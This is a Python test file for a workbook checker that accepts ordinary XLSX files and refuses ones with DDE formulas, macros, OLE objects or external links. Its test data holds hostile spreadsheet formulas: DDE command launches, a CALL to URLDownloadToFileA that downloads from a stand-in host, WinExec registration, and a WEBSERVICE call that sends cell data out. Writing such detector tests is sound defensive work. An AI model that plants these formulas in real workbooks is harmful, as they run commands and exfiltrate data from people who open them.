"""XLSX: good ones are taken; what reaches out of the file is refused."""

import pytest

from tests.interaction.files.judging import judge, say
from tests.interaction.files.packages import (
    BOOK,
    BOOK_RELATIONS,
    MICROSOFT,
    OFFICE,
    TYPES,
    book,
    compute,
    put_in,
    relate,
    say_in_book,
)
from tests.search.files.office_files import make_xlsx

LINK = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</externalLink>'


@pytest.mark.parametrize(
    "content",
    [
        make_xlsx(("项目", "金额"), ("教育", 12.5)),
        compute("SUM(B1:B9)"),
        compute('IF(A1>0,A1&"|"&B1,"CALL(一下)")'),
        compute("'二〇二六|预算'!A1"),
        compute('HYPERLINK("https://www.gov.cn/","网站")'),
        compute("RECALL(1)+SHEET2!A1"),
        book({"xl/printerSettings/printerSettings1.bin": b"\0" * 40}),
        book({"xl/media/image1.jpeg": b"\xff\xd8\xff\xe0" + b"\0" * 20}),
    ],
)
def test_workbooks_of_citizens_are_taken(content):
    assert say(content, extension="xlsx") == "xlsx"


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("cmd|'/c calc'!A0", "dde"),
        ("CMD | '/c calc' ! A0", "dde"),
        ("1+MSEXCEL|'\\..\\..\\cmd.exe'!''", "dde"),
        ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example/","c:\\x",0,0)', "dde"),
        ('REGISTER.ID("kernel32","WinExec")', "dde"),
        ('EXEC("calc.exe")', "dde"),
        ('_xlfn.WEBSERVICE("http://evil.example/?"&A1)', "remote"),
        ('_xlfn.IMAGE("http://evil.example/a.png")', "remote"),
        ('RTD("evil",,"x")', "remote"),
        ('HYPERLINK("file:///c:/evil.exe","点")', "actions"),
        ('HYPERLINK("\\\\\\\\evil\\\\x","点")', "actions"),
        ("'\\\\evil\\share\\[a.xlsx]Sheet1'!A1", "remote"),
        ("'https://evil.example/[a.xlsx]Sheet1'!A1", "remote"),
    ],
)
def test_formulas_that_reach_out_are_refused(formula, code):
    assert say(compute(formula)) == f"refused: {code}"


def test_formulas_of_names_and_rules_are_judged_too():
    evil = "cmd|'/c calc'!A0"

    named = say_in_book(
        f"<definedNames><definedName name='a'>{evil}</definedName></definedNames>", part=BOOK, before="</workbook>"
    )
    ruled = say_in_book(
        f"<dataValidations><dataValidation><formula1>{evil}</formula1></dataValidation></dataValidations>",
        before="</worksheet>",
    )

    assert (say(named), say(ruled)) == ("refused: dde", "refused: dde")


def test_formula_in_pieces_is_put_together():
    assert say(say_in_book("<f>cmd|<!-- x -->'/c calc'!A0</f>")) == "refused: dde"
    assert say(say_in_book("<f>cmd<![CDATA[|]]>'/c calc'!A0</f>")) == "refused: dde"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (relate(book(), BOOK_RELATIONS, OFFICE + "externalLink", "externalLinks/externalLink1.xml"), "remote"),
        (
            book({"xl/externalLinks/e.xml": LINK.format('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>').encode()}),
            "dde",
        ),
        (book({"xl/externalLinks/e.xml": LINK.format('<externalBook r:id="r1" xmlns:r="urn:r"/>').encode()}), "remote"),
        (book({"xl/externalLinks/e.xml": LINK.format('<oleLink progId="x"/>').encode()}), "objects"),
        (relate(book(), BOOK_RELATIONS, OFFICE + "connections", "connections.xml"), "remote"),
        (relate(book(), BOOK_RELATIONS, OFFICE + "queryTable", "queryTables/q.xml"), "remote"),
        (relate(book(), BOOK_RELATIONS, MICROSOFT + "xlMacrosheet", "macrosheets/sheet1.xml"), "macros"),
        (relate(book(), BOOK_RELATIONS, MICROSOFT + "xlIntlMacrosheet", "macrosheets/sheet1.xml"), "macros"),
        (relate(book(), BOOK_RELATIONS, OFFICE + "dialogsheet", "dialogsheets/sheet1.xml"), "macros"),
        (relate(book(), BOOK_RELATIONS, MICROSOFT + "vbaProject", "vbaProject.bin"), "macros"),
        (relate(book(), BOOK_RELATIONS, OFFICE + "ctrlProp", "ctrlProps/ctrlProp1.xml"), "objects"),
        (relate(book(), "_rels/.rels", MICROSOFT + "webextensiontaskpanes", "taskpanes.xml"), "scripts"),
        (book({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "objects"),
        (book({"xl/printerSettings/printerSettings1.bin": b"MZ\x90\0"}), "embedded"),
        (say_in_book("<oleObjects><oleObject progId='Package'/></oleObjects>", before="</worksheet>"), "objects"),
    ],
)
def test_links_macros_and_objects_are_refused(content, code):
    assert say(content, extension="xlsx") == f"refused: {code}"


@pytest.mark.parametrize(
    "kind",
    [
        "application/vnd.ms-excel.macrosheet+xml",
        "application/vnd.ms-excel.intlmacrosheet+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-excel.addin.macroEnabled.main+xml",
    ],
)
def test_types_of_macros_are_refused(kind):
    added = f'<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="{kind}"/>'

    assert say(put_in(book(), TYPES, "</Types>", added)) == "refused: macros"


def test_binary_workbook_is_not_taken():
    binary = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"

    assert (
        say(put_in(book(), TYPES, "</Types>", f'<Override PartName="/xl/workbook.bin" ContentType="{binary}"/>'))
        == "refused: macros"
    )


def test_extension_does_not_decide():
    assert judge(book(), extension="pdf").kind == "xlsx"
